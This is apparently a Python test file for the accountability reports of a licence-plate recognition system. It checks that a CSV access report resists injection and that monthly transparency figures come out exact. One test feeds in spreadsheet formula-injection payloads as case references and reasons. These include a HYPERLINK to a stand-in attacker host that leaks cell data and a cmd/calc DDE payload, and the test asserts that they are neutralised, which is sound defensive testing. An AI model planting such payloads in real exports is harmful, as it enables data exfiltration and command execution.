"""Reports that hold up: the who-accessed CSV cannot be forged through its input (issue 11,
finding 6), and the transparency figures match a scripted scenario exactly, over an
inclusive period (issue 17, item 3)."""

import csv
import io

from anpr.accountability.access_report import read_csv, who_accessed
from anpr.accountability.models import ProbePolicy
from anpr.accountability.probes import ProbeService
from anpr.accountability.service import parse_time, period
from anpr.accountability.transparency import AlertFigures, figures
from anpr.kernel.audit import AuditEvent
from anpr.kernel.clock import DAY_MS, fixed

from tests.fakes.accountability import InMemoryAuditStore, InMemoryProbeStore
from tests.helpers import NOW_MS, camera

NOV_1 = parse_time("2026-11-01", "from")
NOV_30 = parse_time("2026-11-30", "to")  # the 30th's first millisecond


def access(store, actor, action, at_ms, plates=("1ABC234",), outcome="allowed", **kw):
    return store.record(
        AuditEvent(action=action, actor_id=f"sub-{actor}", actor_name=actor, roles=["investigator"],
                   plates=list(plates), outcome=outcome, at_ms=at_ms, **kw)
    )  # fmt: skip


# -- the who-accessed CSV -----------------------------------------------------------------


def test_a_case_reference_or_reason_cannot_forge_a_row_or_a_formula():
    store = InMemoryAuditStore()
    # GIVEN a recorded access whose case reference is a formula and whose reason holds a
    # newline followed by a forged CSV row
    forged_row = '9999,2026-01-01T00:00:00.000Z,1,search.submitted,allowed,sub-x,nobody,,x,PV-0,"ok",,True'
    access(store, "mallory", "search.submitted", NOW_MS, resource="search/1",
           case_ref='=HYPERLINK("http://evil.example/?"&A1,"open")', reason=f"routine check\n{forged_row}",
           prosecutor_ref="@SUM(1+1)")  # fmt: skip
    access(store, "bob", "alert.viewed", NOW_MS + 1, resource="+cmd|' /C calc'!A0", reason="-2+3\tx\rboom")
    report = who_accessed(
        store, "1ABC234", NOW_MS + 10, requested_by="aud", case_ref="=1+1", reason="COC audit"
    )
    text = report.to_csv()
    # THEN there are exactly two data rows, every cell quoted, formulas neutralised
    provenance, rows = read_csv(text)
    assert [r["seq"] for r in rows] == ["1", "2"]
    assert rows[0]["case_ref"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert rows[0]["reason"] == f"routine check\n{forged_row}"  # inside its cell, newline kept
    assert rows[0]["prosecutor_ref"] == "'@SUM(1+1)"
    assert rows[1]["resource"].startswith("'+") and rows[1]["reason"] == "'-2+3\tx\rboom"
    # AND the provenance stays out of the data rows, neutralised too
    assert provenance["case reference"] == "'=1+1" and provenance["rows"] == "2"
    assert all(row and (row[0] == "provenance" or row[0] == "seq" or row[0].isdigit())
               for row in csv.reader(io.StringIO(text, newline="")) if row)  # fmt: skip
    assert all(line.startswith('"') for line in text.split("\r\n") if line and not line.startswith(("9999",)))
    assert "\r\n9999," not in text


# -- transparency ---------------------------------------------------------------------------


def scenario():
    """November 2026, scripted: what happened, and what the figures must say."""
    store = InMemoryAuditStore()
    last_day = NOV_30 + 20 * 3_600_000  # 30 Nov, 20:00 UTC: must be counted
    # searches run: 3 plate, 1 partial (one of them on the 30th); one denied; one in December
    for i, (kind, at) in enumerate([("plate", NOV_1), ("plate", NOV_1 + DAY_MS), ("partial", NOV_1 + 2 * DAY_MS),
                                    ("plate", last_day)]):  # fmt: skip
        access(store, "ivan", "search.submitted", at, resource=f"search/{i}", detail={"type": kind})
    access(store, "ivan", "search.submitted", NOV_1 + 3 * DAY_MS, outcome="denied", detail={"type": "plate"})
    access(store, "ivan", "search.submitted", NOV_30 + DAY_MS, detail={"type": "plate"})  # 1 December
    # one alert, seen by patrols in many feed listings and views: still one hit
    for i in range(5):
        access(store, "pat", "alert.viewed", NOV_1 + DAY_MS + i, resource="alert/A1")
        access(store, "pat", "alert.listed", NOV_1 + DAY_MS + i, resource="alerts/BXL-5339")
    access(store, "pat", "alert.acknowledged", NOV_1 + DAY_MS + 9, resource="alert/A1",
           detail={"outcome": "vehicle_stopped"})  # fmt: skip
    # legal holds: one placed, one refused attempt
    access(store, "ivan", "legal_hold.placed", NOV_1 + 5 * DAY_MS)
    access(store, "ivo", "legal_hold.released", NOV_1 + 6 * DAY_MS, outcome="denied")
    return store, last_day


def test_transparency_matches_the_scripted_scenario_exactly():
    store, _ = scenario()
    start, end = period("2026-11-01", "2026-11-30", now_ms=NOW_MS)
    probes = ProbeService(
        InMemoryProbeStore(), store, store, ProbePolicy(rate=1, seed="x"), fixed(NOW_MS)
    ).list()
    # WHEN the alerts table says one alert was raised and acknowledged in November
    f = figures(store, [camera("A"), camera("B", status="retired")], probes, start, end,
                count_reads=lambda s, e: 1234, count_alerts=lambda s, e: AlertFigures(raised=1, by_outcome={"vehicle_stopped": 1}))  # fmt: skip
    # THEN every figure is exact
    assert f.period == "2026-11-01 to 2026-11-30, both days included (UTC)"
    assert (f.period_from, f.period_to) == ("2026-11-01T00:00:00.000Z", "2026-11-30T23:59:59.999Z")
    assert f.searches == {"total": 4, "denied": 1, "by_type": {"plate": 3, "partial": 1}}
    assert f.watchlist_hits == 1
    assert f.alerts == {
        "raised": 1,
        "acknowledged": 1,
        "by_outcome": {"vehicle_stopped": 1},
        "follow_up_by_zone": {},
        "source": "alerts table",
    }
    assert f.legal_holds == {"placed": 1, "released": 0}
    assert f.accesses_denied == 2 and f.reads == 1234 and f.cameras["total"] == 2
    assert f.audit_records == 4 + 1 + 10 + 1 + 2


def test_without_an_alerts_table_hits_are_alerts_raised_not_alert_records():
    store, _ = scenario()
    start, end = period("2026-11-01", "2026-11-30", now_ms=NOW_MS)
    # GIVEN the trail alone: no alert.raised record, ten listings and views of one alert
    f = figures(store, [], [], start, end)
    # THEN no hit is invented from people looking at alerts; the outcome is counted once
    assert f.watchlist_hits == 0 and f.alerts["source"] == "audit trail"
    assert f.alerts["by_outcome"] == {"vehicle_stopped": 1}
    access(store, "system", "alert.raised", NOV_1 + DAY_MS, resource="alert/A1")
    assert figures(store, [], [], start, end).watchlist_hits == 1


def test_a_period_ending_on_a_date_includes_that_whole_day():
    start, end = period("2026-11-01", "2026-11-30", now_ms=NOW_MS)
    assert end == parse_time("2026-12-01", "to") - 1 and start == NOV_1
    store, last_day = scenario()
    assert last_day in [r.event.at_ms for r in store.between(start, end)]
